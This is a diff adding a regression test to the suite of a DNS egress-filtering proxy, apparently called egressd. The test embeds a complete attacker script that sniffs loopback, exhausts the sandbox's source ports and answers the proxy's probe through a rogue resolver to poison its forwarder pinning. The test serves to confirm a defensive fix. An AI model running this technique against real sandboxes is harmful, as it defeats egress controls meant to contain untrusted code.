@@ -1792,6 +1792,131 @@ def test_a_copy_after_a_probe_that_saw_none_starts_no_probe(lab, egressd):
     r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
     assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
 
+# Found by a second review of the probe: the sandbox process (root, Docker's default capabilities;
+# NET_RAW only to sniff the probe's name on `lo`) connects to T:53 (redirected to the proxy) and
+# closes at once, from every port of the namespace's range: each leaves a TIME_WAIT entry for
+# (its address, port, T, 53), so Docker's resolver gets EADDRNOTAVAIL and its copy of the probe
+# never exists. It sends the only copy itself, over a new connection, to its own resolver. Before
+# that it copies each probe once (a race: nothing pinned) until the ports are gone.
+# argv: rogue, target, budget in seconds.
+PORT_EXHAUSTER = textwrap.dedent(r'''
+    import errno, json, socket, struct, sys, threading, time
+    rogue, target, budget = sys.argv[1], sys.argv[2], float(sys.argv[3])
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))   # NET_RAW
+    sniff.bind(("lo", 0))
+    sniff.settimeout(0.05)
+    st = {"conns": 0, "notavail": 0, "exhausted_at": None, "errors": {}, "races": 0, "copy": None}
+    stop = threading.Event()
+    t0 = time.monotonic()
+    def exhaust():
+        while not stop.is_set() and time.monotonic() - t0 < budget:
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.settimeout(2)
+            try:
+                s.connect((target, 53))          # redirected to egressd's proxy
+                st["conns"] += 1
+            except OSError as e:
+                if e.errno == errno.EADDRNOTAVAIL:
+                    st["notavail"] += 1
+                    if st["exhausted_at"] is None:
+                        st["exhausted_at"] = round(time.monotonic() - t0, 2)
+                        print("EXHAUSTED", st["conns"], flush=True)
+                    s.close()
+                    time.sleep(0.05)             # pacing: keep grabbing ports as TIME_WAITs expire
+                    continue
+                st["errors"][str(e.errno)] = st["errors"].get(str(e.errno), 0) + 1
+            s.close()                            # active close: TIME_WAIT on (me, port, target, 53)
+    import ctypes
+    # only frames longer than 100 bytes (segments with data): the flood of handshakes is not read
+    prog = struct.pack("HBBI", 0x80, 0, 0, 0) + struct.pack("HBBI", 0x35, 0, 1, 100) + \
+        struct.pack("HBBI", 0x06, 0, 0, 0xFFFF) + struct.pack("HBBI", 0x06, 0, 0, 0)
+    buf = ctypes.create_string_buffer(prog)
+    fprog = struct.pack("HL", 4, ctypes.addressof(buf))
+    sniff.setsockopt(socket.SOL_SOCKET, 26, fprog)   # SO_ATTACH_FILTER
+    th = threading.Thread(target=exhaust, daemon=True)
+    print("READY", flush=True)
+    seen = set()
+    deadline = time.monotonic() + budget
+    while time.monotonic() < deadline and st["copy"] is None:
+        try:
+            f = sniff.recv(65535)
+        except socket.timeout:
+            continue
+        p = f[14:]
+        if len(p) < 40 or p[0] >> 4 != 4 or p[9] != 6:
+            continue
+        ihl = (p[0] & 0xF) * 4
+        data = p[ihl + (p[ihl + 12] >> 4) * 4:]
+        if len(data) <= 14 or b"egressd-probe-" not in data.lower() or data[14:] in seen:
+            continue
+        seen.add(data[14:])
+        q = data[2:]
+        if not st.get("started"):
+            st["started"] = True
+            t0 = time.monotonic()
+            th.start()           # egressd is up (its start-up probe): exhaust through its redirect
+        if st["exhausted_at"] is None:
+            # not ready: a second copy (UDP) makes this probe a race, retried 10 s later
+            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            u.settimeout(2)
+            try:
+                u.sendto(q, ("198.51.100.99", 53))
+                u.recv(65535)
+            except OSError:
+                pass
+            st["races"] += 1
+            print("RACED", st["races"], flush=True)
+            continue
+        # ready: Docker cannot connect to target:53; answer the probe alone over a fresh connection
+        c = socket.create_connection((rogue, 53), timeout=3)
+        c.sendall(struct.pack("!H", len(q)) + q)
+        n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
+        st["copy"] = c.recv(n, socket.MSG_WAITALL)[3] & 0xF
+        st["copy_at"] = round(time.monotonic() - t0, 2)
+        c.close()
+    print("COPIED", st["copy"], flush=True)
+    sys.stdin.readline()
+    stop.set()
+    print(json.dumps(st))
+''')
+
+
+def test_a_probe_whose_docker_copy_was_suppressed_by_port_exhaustion_pins_nothing(lab, egressd):
+    """Docker cannot forward egressd's probe, answers it itself, and the one copy that reached the
+    proxy was the sandbox's: egressd pins a target only when its probe gets the proxy's own
+    NXDOMAIN back through the resolver. Before, it pinned the sandbox's resolver and learned its
+    answers (and kept the pin across a restart). The sandbox's port range is narrowed to 500
+    ports so the exhaustion takes 500 connections, not 28,000."""
+    serve(lab)
+    lab.add_servers([FORGED_V4], tcp=(80,))
+    lab.sandbox.sysctl("net.ipv4.ip_local_port_range", "40000 40499")
+    lab.internet.ip("addr", "add", f"{ROGUE}/32", "dev", "lo")
+    rp = lab.spawn([sys.executable, str(HERE / "dnsserver.py"), "record", "--addr", ROGUE, "--port", 53,
+                    "--answer", FORGED_V4, "--log", str(lab.tmp / "rogue.jsonl")], netns=lab.internet,
+                   stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert labmod._read_line(rp, 10.0, "the rogue resolver").startswith("READY")
+    DockerResolver(lab)
+    p = attacker(lab, PORT_EXHAUSTER, ROGUE, DNS_V4, 40.0, caps=DOCKER_CAPS)
+    d = egressd(policy("127.0.0.11", hosts=["a.example.com", "*.wild.example.org"]), extra=["--log-format", "json"])
+    raced = 0
+    while True:
+        line = labmod._read_line(p, 45.0, "the attacker")
+        raced += line.startswith("RACED")
+        if line.startswith("COPIED"):
+            break
+    assert line == "COPIED 3", line  # the proxy answered the copy (NXDOMAIN): it arrived
+    labmod.wait_for(lambda: events(d, "forwarder_pinned") or len(dns_events(d, "forwarder_probe_race")) > raced,
+                    10.0, "the probe the attacker answered to end")
+    p.stdin.write(b"\n")
+    p.stdin.flush()
+    attacker_result(p, timeout=30)
+    assert not events(d, "forwarder_pinned"), events(d, "forwarder_pinned")
+    last = dns_events(d, "forwarder_probe_race")[-1]
+    assert last.get("reason") == "answer_not_the_proxys", last
+    assert FORGED_V4 not in lab.learned_set(4)
+    assert lab.tcp_connect(FORGED_V4, 80) != "ok"
+
+
 # --- a port per query, and the sandbox's own queries ---------------------------------------------
 
 
